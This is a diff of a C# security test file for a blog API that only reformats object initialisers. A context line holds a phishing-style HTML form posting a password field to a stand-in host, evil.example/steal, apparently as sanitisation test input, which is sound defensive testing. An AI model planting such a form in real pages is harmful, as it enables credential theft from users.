@@ -82,7 +82,8 @@ public sealed class LowFindingsTests(SharedApp shared)
         var api = _app.Reader().WithToken(await _app.Seed.TokenAsync(owner));
         var created = await (await api.PostAsync($"/api/v1/blogs/{blog.Handle}/posts", JsonContent.Create(new
         {
-            title = "Log in again", status = "published",
+            title = "Log in again",
+            status = "published",
             body = "Text before.\n\n<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Go</button><textarea>t</textarea><select><option>o</option></select></form>\n\nText after.",
         }))).JsonAsync(HttpStatusCode.Created);
 
@@ -103,7 +104,8 @@ public sealed class LowFindingsTests(SharedApp shared)
         var user = await app.Seed.UserAsync();
         var reader = app.CreateClient(new Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactoryClientOptions
         {
-            AllowAutoRedirect = false, BaseAddress = new Uri("https://localhost"),
+            AllowAutoRedirect = false,
+            BaseAddress = new Uri("https://localhost"),
         });
 
         using var home = await reader.GetAsync("/");
